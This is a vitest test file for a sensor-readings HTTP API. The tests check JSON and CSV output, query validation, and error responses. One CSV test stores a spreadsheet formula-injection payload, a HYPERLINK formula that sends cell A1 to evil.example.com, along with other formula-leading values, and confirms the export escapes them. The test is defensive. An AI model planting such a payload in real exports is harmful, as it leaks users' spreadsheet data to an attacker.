/** Stored readings over HTTP, as JSON and as CSV. */

import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { OnrampError } from '../../../model/errors.ts';
import { ApiWorld } from './api-world.ts';

const firstMs = 1_767_225_600_000;
const line = (device: string, n: number, fields: string) =>
  `env-sensor,enterprise=acme,device=${device},district=wujin,industry=35 ${fields},seq=${n} ${firstMs + n * 1000}`;

let world: ApiWorld;
beforeEach(async () => {
  world = new ApiWorld();
  const { registry } = world.context;
  await registry.add({ enterprise: 'acme', device: 's-1', profile: 'env-sensor' });
  await registry.add({ enterprise: 'acme', device: 'g-1', profile: 'generic' });
  await world.store(
    line('s-1', 1, 'temp=21.5,rh=40'),
    line('s-1', 2, 'temp=-4.25'),
    line('s-1', 3, 'temp=22,strange=1'),
    line('s-2', 1, 'temp=99'),
  );
});
afterEach(() => world.close());

const readings = (query = '', device = 's-1') =>
  world.ask('GET', `/api/v1/devices/acme.${device}/readings${query}`);

describe('as JSON', () => {
  it('come newest first, of this device only', async () => {
    const answer = await readings();
    expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(answer.json()).toEqual({
      enterprise: 'acme',
      device: 's-1',
      profile: 'env-sensor',
      readings: [
        { timestampMs: firstMs + 3000, seq: 3, values: { temp: 22, strange: 1 } },
        { timestampMs: firstMs + 2000, seq: 2, values: { temp: -4.25 } },
        { timestampMs: firstMs + 1000, seq: 1, values: { temp: 21.5, rh: 40 } },
      ],
    });
  });

  it.each([
    [`?from=${firstMs + 2000}`, [3, 2]],
    [`?to=${firstMs + 2000}`, [1]],
    ['?from=2026-01-01T00:00:02Z&to=2026-01-01T00:00:03Z', [2]],
    ['?from=2026-01-01T08:00:03%2B08:00', [3]],
    ['?from=2026-01-01&to=2026-01-02', [3, 2, 1]],
    ['?limit=1', [3]],
    ['?from=2027-01-01', []],
  ])('of %s', async (query, seqs) => {
    const found = (await readings(query)).json().readings;
    expect(found.map((reading: { seq: number }) => reading.seq)).toEqual(seqs);
  });

  it.each([
    '?from=yesterday',
    '?from=2026-01-01T00:00:00',
    '?from=2026-13-01',
    '?from=9999999999999999',
    '?from=-1',
    '?from=2026-01-02&to=2026-01-01',
    '?limit=100001',
    '?format=xml',
    '?signal=temp',
  ])('refuse %s', async (query) => {
    const answer = await readings(query);
    expect(answer.statusCode).toBe(400);
    expect(answer.json()).toMatchObject({ code: 'api.bad-request' });
    expect(answer.json().details).toHaveLength(1);
  });

  it('of a device that is not registered are not found', async () => {
    expect((await readings('', 's-2')).json().code).toBe('registry.not-found');
  });

  it('of a long history arrive whole', async () => {
    const lines = Array.from({ length: 3000 }, (_, n) => line('s-1', n + 10, `temp=${n}`));
    await world.store(...lines);
    expect((await readings('?limit=2500')).json().readings).toHaveLength(2500);
  });
});

describe('as CSV', () => {
  it('have the columns of the profile in its order, and others after them', async () => {
    const answer = await readings('?format=csv');
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toBe('attachment; filename="acme.s-1.csv"');
    const [heading, ...rows] = parse(answer.body) as string[][];
    expect(heading?.slice(0, 4)).toEqual(['time', 'seq', 'temp', 'rh']);
    expect(heading?.at(-1)).toBe('strange');
    expect(rows).toHaveLength(3);
    expect(rows[1]?.slice(0, 4)).toEqual(['2026-01-01T00:00:02.000Z', '2', '-4.25', '']);
    expect((await readings(`?format=csv&to=${firstMs}`)).body.split('\n')).toHaveLength(2);
  });

  it('hold no formula that a spreadsheet would run', async () => {
    const generic = (signal: string, value: string) =>
      `generic,enterprise=acme,device=g-1,district=wujin,industry=35,signal=${signal} ${value} ${firstMs}`;
    const attack = '=HYPERLINK(\\"http://evil.example.com?x=\\"&A1,\\"a, b\\")';
    await world.store(
      generic('a', `text="${attack}"`),
      generic('b', 'text="+1-1"'),
      generic('c', 'text="@SUM(A1)"'),
      generic('d', 'text="-2+3"'),
      generic('e', 'text="\ttab"'),
      generic('f', 'num=-7'),
      generic('constructor', 'text="plain"'),
      generic('g', 'text="a ""b"'.replace('""', '\\"')),
    );
    const answer = await readings('?format=csv', 'g-1');
    const [heading, row] = parse(answer.body) as string[][];
    expect(heading).toEqual(['time', 'seq', 'a', 'b', 'c', 'constructor', 'd', 'e', 'f', 'g']);
    expect(row).toEqual([
      '2026-01-01T00:00:00.000Z',
      '',
      '\'=HYPERLINK("http://evil.example.com?x="&A1,"a, b")',
      "'+1-1",
      "'@SUM(A1)",
      'plain',
      "'-2+3",
      "'\ttab",
      '-7',
      'a "b',
    ]);
  });
});

describe('from a store that is away', () => {
  it('answer 503 with its reason', async () => {
    const away = new ApiWorld();
    await away.context.registry.add({ enterprise: 'acme', device: 's-1', profile: 'env-sensor' });
    away.context.store.readings = async () => {
      throw new OnrampError('store.unavailable', 'connection refused');
    };
    const answer = await away.ask('GET', '/api/v1/devices/acme.s-1/readings');
    expect(answer.statusCode).toBe(503);
    expect(answer.json()).toMatchObject({
      code: 'store.unavailable',
      details: ['connection refused'],
    });
    away.context.store.readings = async () => {
      throw new TypeError('a bug of ours, with /secret/paths');
    };
    const bug = await away.ask('GET', '/api/v1/devices/acme.s-1/readings');
    expect(bug.statusCode).toBe(500);
    expect(bug.body).not.toContain('secret');
    await away.close();
  });
});
